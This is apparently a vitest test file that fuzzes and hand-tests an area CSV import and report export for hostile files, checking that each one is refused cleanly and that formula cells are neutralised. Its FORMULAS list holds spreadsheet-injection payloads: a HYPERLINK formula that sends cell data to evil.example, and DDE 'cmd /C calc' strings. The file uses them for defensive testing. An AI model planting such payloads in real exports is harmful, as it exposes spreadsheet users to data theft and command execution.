import { rmSync, writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import fc from 'fast-check';
import { isKhoaError, type KhoaError } from '@khoa/protocol';
import { startTestHub, type TestHub } from '../../hub/src/testing/harness.ts';
import { AREA_COLUMNS, importAreas, parseAreaCsv, type RowError } from '../../hub/src/coverage/area-import.ts';
import { CSV_LIMITS, csvField, parseCsv } from '../../hub/src/coverage/csv.ts';
import { coverageDb, type CoverageDb } from '../../hub/src/storage/coverage-tables.ts';
import { consoleDb } from '../../hub/src/storage/console-tables.ts';
import { setPasswordHash } from '../../hub/src/storage/users.ts';
import { createUser, hashPassword, ROOT } from '../../hub/src/accounts/index.ts';
import { main } from '../../hub/src/cli/main.ts';
import { openDb } from '../../hub/src/storage/open.ts';
import { tempDir } from '../../hub/src/testing/databases.ts';

import { ApiClient, PASSWORD } from '../console-fixture.ts';
import { counter, rssMB } from './rig.ts';

// Hostile area files (issue 9): the district's CSV import through the library, the HTTP upload
// and `khoa area import`, and the report export opened in spreadsheets. Goal: no crash, bounded
// memory, a coded error naming line and column, nothing half-imported, counted in a metric.

const HEADER = AREA_COLUMNS.join(',');
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

let t: TestHub;
let admin: ApiClient;
let dir: string;

beforeAll(async () => {
  t = await startTestHub();
  dir = mkdtempSync(join(tmpdir(), 'khoa-hostile-csv-'));
  const db = consoleDb(t.hub.db.kysely);
  const { user } = await createUser(db, { username: 'qt.tinh', role: 'admin', areaId: ROOT });
  await setPasswordHash(db, user.id, await hashPassword(PASSWORD));
  await db.updateTable('users').set({ must_change_password: 0 }).where('id', '=', user.id).execute();
  admin = new ApiClient(t.http);
  expect((await admin.login('qt.tinh')).status).toBe(200);
  // The starting tree every refusal must leave untouched.
  const r = await upload(`${HEADER}\r\ntinh,,province,Tỉnh Thử,,,,,,\r\nxa-1,tinh,commune,Xã Một,rural,,,,,\r\nthon-1,xa-1,village,Thôn Một,,200,,,,\r\n`);
  expect(r.status).toBe(200);
}, 60_000);

afterAll(async () => {
  vi.restoreAllMocks();
  await t?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** The upload as the district page sends it: text/csv, the session cookie and its CSRF header. */
function upload(body: string | Buffer): Promise<Response> {
  const cookie = [...admin.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
  return fetch(`${t.http}/api/district/areas/import`, { method: 'POST', headers: { 'content-type': 'text/csv', cookie, 'x-khoa-csrf': admin.csrf }, body: typeof body === 'string' ? body : new Uint8Array(body) });
}

/** Every stored area and version, to show a refused file changed nothing. */
async function snapshot(k: CoverageDb = coverageDb(t.hub.db.kysely)): Promise<string> {
  const areas = await k.selectFrom('areas').selectAll().orderBy('id').execute();
  const versions = await k.selectFrom('area_versions').selectAll().orderBy('area_id').orderBy('valid_from').execute();
  return JSON.stringify({ areas, versions });
}

/** A refusal's answer: 4xx, a KHOA_ERR code, and per-row errors naming real lines and columns. */
async function expectRefused(r: Response, code = 'KHOA_ERR_PAYLOAD_INVALID'): Promise<RowError[]> {
  const body = (await r.json()) as { code: string; message: string; context: { errors?: RowError[] } };
  expect(r.status, body.message).toBeGreaterThanOrEqual(400);
  expect(r.status).toBeLessThan(500);
  expect(body.code).toBe(code);
  const errors = body.context.errors ?? [];
  expect(errors.length).toBeGreaterThan(0);
  expect(errors.length).toBeLessThanOrEqual(1002);
  for (const e of errors) {
    expect(Number.isInteger(e.row) && e.row >= 1).toBe(true);
    expect(e.column === null || (AREA_COLUMNS as readonly string[]).includes(e.column)).toBe(true);
    expect(e.reason.length).toBeGreaterThan(0);
  }
  return errors;
}

const cell = fc.oneof(
  fc.constantFrom('', 'tinh', 'xa-1', 'thon-1', 'x', 'province', 'commune', 'village', 'urban', 'rural', '12', '-1', '999999999999', '"', '""', '"a,b"', '\u0000', '\ufeff', ...FORMULAS),
  fc.stringMatching(/^[a-z0-9-]{1,8}$/),
  fc.string({ maxLength: 12, unit: 'binary' }),
);
const csvish = fc
  .tuple(fc.boolean(), fc.array(fc.array(cell, { minLength: 1, maxLength: 11 }), { maxLength: 8 }), fc.constantFrom('\n', '\r\n', '\r'))
  .map(([withHeader, rows, eol]) => [...(withHeader ? [HEADER] : []), ...rows.map((r) => r.join(','))].join(eol));

describe('the area CSV parser under arbitrary input', () => {
  it('never throws: every input is rows or errors that name a line and a known column', () => {
    fc.assert(
      fc.property(fc.oneof(csvish, fc.string({ maxLength: 400, unit: 'binary' }), fc.uint8Array({ maxLength: 400 })), (input) => {
        const { rows, errors } = parseAreaCsv(input);
        if (errors.length) expect(rows.length === 0 || errors.every((e) => e.row >= 1)).toBe(true);
        for (const e of errors) {
          expect(e.row).toBeGreaterThanOrEqual(1);
          expect(e.column === null || (AREA_COLUMNS as readonly string[]).includes(e.column)).toBe(true);
        }
        for (const r of rows) expect(r.name.includes('\u0000')).toBe(false);
      }),
      { numRuns: 3000, seed: 9 },
    );
  });

  it('imports fuzzed files all or nothing: an accepted one adds its rows, a refused one changes nothing', async () => {
    // A database of its own, so what the fuzzer happens to import does not meet the other tests.
    const own = tempDir();
    const store = await openDb({ url: '', busyTimeoutMs: 5000 }, own);
    const db = coverageDb(store.kysely);
    await importAreas(db, `${HEADER}\ntinh,,province,T,,,,,,\nxa-1,tinh,commune,X,,,,,,\nthon-1,xa-1,village,V,,10,,,,\n`, Date.UTC(2026, 0, 1));
    let at = Date.UTC(2027, 0, 1);
    let refusedCount = 0;
    for (const input of fc.sample(csvish, { numRuns: 150, seed: 5 })) {
      const before = await snapshot(db);
      at += 86400_000;
      const outcome = await importAreas(db, input, at).then(
        () => 'ok',
        (e: unknown) => e,
      );
      if (outcome === 'ok') continue;
      refusedCount++;
      expect(isKhoaError(outcome), String(outcome)).toBe(true);
      expect((outcome as KhoaError).code).toMatch(/^KHOA_ERR_PAYLOAD_(INVALID|TOO_LARGE)$/);
      expect(await snapshot(db)).toBe(before);
    }
    await store.close();
    rmSync(own, { recursive: true, force: true });
    expect(refusedCount).toBeGreaterThan(100);
  }, 60_000);

  it('export cells never start a formula, and read back as what was written', () => {
    fc.assert(
      // No NUL: names cannot hold control characters any more (the import refuses them).
      fc.property(fc.oneof(fc.string({ maxLength: 40, unit: 'binary' }).map((x) => x.split('\u0000').join('')), fc.constantFrom(...FORMULAS), fc.double({ noNaN: true }).map(String)), (s) => {
        const back = parseCsv(`${csvField(s)},end`, { ...CSV_LIMITS, maxFieldChars: 1_000_000 })[0]?.fields[0] ?? '';
        const numeric = /^-?\d+(\.\d+)?$/.test(s);
        if (!numeric) expect(back).not.toMatch(/^[=+\-@\t\r]/);
        expect(back.startsWith("'") && !s.startsWith("'") ? back.slice(1) : back).toBe(s);
      }),
      { numRuns: 3000, seed: 3 },
    );
  });
});

describe('hand-made hostile area files over HTTP', () => {
  it('refuses broken CSV with the line and field, and imports nothing', async () => {
    const before = await snapshot();
    const refusedBefore = await counter(t.hub, 'khoa_area_imports_total', { result: 'refused' });
    const cases: [string | Buffer, RegExp, string?][] = [
      [`${HEADER}\nxa-2,tinh,commune,"Xã Hai,rural,,,,,\nxa-3,tinh,commune,Ba,,,,,,\n`, /line 2: a quoted field is not closed/],
      [`${HEADER}\nxa-2,tinh,commune,Xã "Hai",,,,,,\n`, /line 2: a quote inside an unquoted field/],
      [Buffer.concat([Buffer.from(`${HEADER}\nxa-2,tinh,commune,Xã Hai,,,,,,\nxa-3,tinh,commune,Xã `), Buffer.from([0xc3, 0x28]), Buffer.from(' Ba,,,,,,\n')]), /line 3, field 4: not UTF-8/],
      [Buffer.from(`\ufeff${HEADER}\r\nxa-2,tinh,commune,Xã Hai,,,,,,\r\n`, 'utf16le'), /NUL byte|not UTF-8/],
      [`${HEADER}\nxa-2,tinh,commune,Xã\u0000Hai,,,,,,\n`, /line 2, field 4: a NUL byte/],
      [`${HEADER}\nxa-2,tinh,commune,${'x'.repeat(CSV_LIMITS.maxFieldChars + 10)},,,,,,\n`, /line 2, field 4: longer than/],
      [`${HEADER}\nxa-2,tinh,commune,"Xã\tHai",,,,,,\n`, /contains a control character/],
    ];
    for (const [body, message] of cases) {
      const errors = await expectRefused(await upload(body));
      expect(errors.map((e) => e.reason).join('; ')).toMatch(message);
    }
    expect(await snapshot()).toBe(before);
    expect(await counter(t.hub, 'khoa_area_imports_total', { result: 'refused', reason: 'encoding' })).toBeGreaterThanOrEqual(3);
    expect(await counter(t.hub, 'khoa_area_imports_total', { result: 'refused' })).toBe(refusedBefore + cases.length);
  });

  it('accepts a BOM with CRLF or bare CR line ends', async () => {
    expect(await (await upload(`\ufeff${HEADER}\r\nxa-crlf,tinh,commune,Xã CRLF,rural,,,,,\r\n`)).json()).toEqual({ added: 1, changed: 0, unchanged: 0 });
    expect(await (await upload(`${HEADER}\rxa-cr,tinh,commune,Xã CR,urban,,,,,\r`)).json()).toEqual({ added: 1, changed: 0, unchanged: 0 });
    expect(await t.hub.db.kysely.selectFrom('areas').select('id').where('id', 'in', ['xa-crlf', 'xa-cr']).execute()).toHaveLength(2);
  });

  it('refuses duplicate, self, cyclic and absurdly deep parents, with the row', async () => {
    const before = await snapshot();
    let errors = await expectRefused(await upload(`${HEADER}\nxa-d,tinh,commune,D,,,,,,\nxa-d,tinh,commune,D2,,,,,,\n`));
    expect(errors[0]).toMatchObject({ row: 3, column: 'id' });
    errors = await expectRefused(await upload(`${HEADER}\nxa-s,xa-s,commune,S,,,,,,\n`));
    expect(errors[0]).toMatchObject({ row: 2, column: 'parent_id' });
    errors = await expectRefused(await upload(`${HEADER}\nc-a,c-b,commune,A,,,,,,\nc-b,c-c,commune,B,,,,,,\nc-c,c-a,commune,C,,,,,,\n`));
    expect(errors.map((e) => e.row)).toEqual([2, 3, 4]);
    expect(errors[0]!.reason).toMatch(/cycle/);
    // A cycle through a stored area: thon-1 (stored under xa-1) becomes xa-1's parent.
    errors = await expectRefused(await upload(`${HEADER}\nxa-1,thon-1,commune,Xã Một,rural,,,,,\n`));
    expect(errors[0]).toMatchObject({ row: 2, column: 'parent_id' });
    const chain = Array.from({ length: 40 }, (_, i) => `deep-${i},${i ? `deep-${i - 1}` : 'tinh'},village,D${i},,,,,,`).join('\n');
    errors = await expectRefused(await upload(`${HEADER}\n${chain}\n`));
    expect(errors.some((e) => /levels above/.test(e.reason))).toBe(true);
    expect(await snapshot()).toBe(before);
    expect(await counter(t.hub, 'khoa_area_imports_total', { result: 'refused', reason: 'tree' })).toBeGreaterThanOrEqual(3);
  });

  it('rolls back a file refused while writing: the rows written before the bad one are gone', async () => {
    const db = coverageDb(t.hub.db.kysely);
    const at = Date.UTC(2030, 0, 1);
    await importAreas(db, `${HEADER}\nxa-w,tinh,commune,W,,,,,,\n`, at);
    const before = await snapshot();
    // xa-new (written first) is new; xa-w already has a version from `at`: refused on write.
    const err = await importAreas(db, `${HEADER}\nxa-new,tinh,commune,New,,,,,,\nxa-w,tinh,commune,W renamed,,,,,,\n`, at).then(() => undefined, (e: unknown) => e as KhoaError);
    expect(err?.code).toBe('KHOA_ERR_PAYLOAD_INVALID');
    expect((err?.context.errors as RowError[])[0]).toMatchObject({ row: 3 });
    expect(await snapshot()).toBe(before);
    expect(await t.hub.db.kysely.selectFrom('areas').select('id').where('id', '=', 'xa-new').executeTakeFirst()).toBeUndefined();
  });

  it('refuses a million rows and a 50 MB line with bounded memory', async () => {
    const before = await snapshot();
    const rss0 = rssMB();
    // A million short rows fit the upload limit (2 MB) but not the row limit.
    const million = `${HEADER}\n${'a\n'.repeat(1_000_000)}`;
    const r = await upload(million);
    expect(r.status).toBe(413);
    const body = (await r.json()) as { code: string; message: string };
    expect(body.code).toBe('KHOA_ERR_PAYLOAD_TOO_LARGE');
    expect(body.message).toMatch(/line \d+: more than 200000 rows/);
    // 50 MB in one line: the upload limit refuses it before reading it all.
    const huge = Buffer.alloc(50 * 1024 * 1024, 0x78);
    const big = await upload(huge);
    expect(big.status).toBe(413);
    expect(((await big.json()) as { code: string }).code).toBe('KHOA_ERR_PAYLOAD_TOO_LARGE');
    // The library itself, given a 15 MB line: refused at the field limit, long before the end.
    const line = `${HEADER}\nxa-2,tinh,commune,${'y'.repeat(15 * 1024 * 1024)},,,,,,\n`;
    expect(parseAreaCsv(line).errors[0]).toMatchObject({ row: 2 });
    const growth = rssMB() - rss0;
    // Node's own buffers for the 50 MB body and the test's strings dominate; a parse holding a
    // million rows of fields would add hundreds of MB.
    expect(growth).toBeLessThan(400);
    expect(await snapshot()).toBe(before);
    expect(await counter(t.hub, 'khoa_area_imports_total', { result: 'refused', reason: 'too_large' })).toBe(2);
    console.log(`csv: RSS growth while refusing 1M rows and a 50 MB line: ${growth.toFixed(0)} MB`);
  }, 60_000);
});

describe('formula cells: imported as text, exported neutralised', () => {
  it('a report CSV of areas named like formulas starts no cell with = + - @', async () => {
    const rows = FORMULAS.map((f, i) => `f-${i},tinh,commune,${csvField(f.replace(/[\t\r]/g, ''))},,,,,,`).join('\n');
    expect((await upload(`${HEADER}\n${rows}\n`)).status).toBe(200);
    const r = await admin.get('/api/district/areas/tinh/report/csv');
    expect(r.status).toBe(200);
    const table = parseCsv((await r.text()).replace(/^\ufeff/, ''), { ...CSV_LIMITS, maxFieldChars: 100_000 });
    const cells = table.flatMap((row) => row.fields);
    expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
    for (const c of cells) if (!/^-?\d+(\.\d+)?$/.test(c)) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('khoa area import (CLI) with hostile files', () => {
  const err: string[] = [];
  beforeAll(() => {
    vi.spyOn(console, 'error').mockImplementation((...a: unknown[]) => void err.push(a.join(' ')));
    vi.spyOn(console, 'log').mockImplementation(() => {});
  });

  it('names line and field, refuses an oversized file before reading it, and imports nothing', async () => {
    const config = join(dir, 'hub.json');
    writeFileSync(config, JSON.stringify({ dataDir: join(dir, 'data'), logLevel: 'silent' }));
    const file = (name: string, body: string | Buffer) => {
      const p = join(dir, name);
      writeFileSync(p, body);
      return p;
    };
    const latin = file('latin1.csv', Buffer.concat([Buffer.from(`${HEADER}\nbg,,province,B`), Buffer.from([0xe9]), Buffer.from('c Giang,,,,,,\n')]));
    expect(await main(['area', 'import', latin, '--config', config])).toBe(1);
    expect(err.join('\n')).toMatch(/line 2: .*line 2, field 4: not UTF-8/);
    err.length = 0;
    const cyclic = file('cyclic.csv', `${HEADER}\na,b,commune,A,,,,,,\nb,a,commune,B,,,,,,\n`);
    expect(await main(['area', 'import', cyclic, '--config', config])).toBe(1);
    expect(err.join('\n')).toMatch(/line 2, column parent_id: makes a cycle/);
    // 50 MB: refused from its size alone (a sparse file: nothing is written or read).
    const huge = join(dir, 'huge.csv');
    writeFileSync(huge, '');
    const { truncateSync } = await import('node:fs');
    truncateSync(huge, 50 * 1024 * 1024);
    err.length = 0;
    expect(await main(['area', 'import', huge, '--config', config])).not.toBe(0);
    expect(err.join('\n')).toMatch(/KHOA_ERR_PAYLOAD_TOO_LARGE/);
  });
});
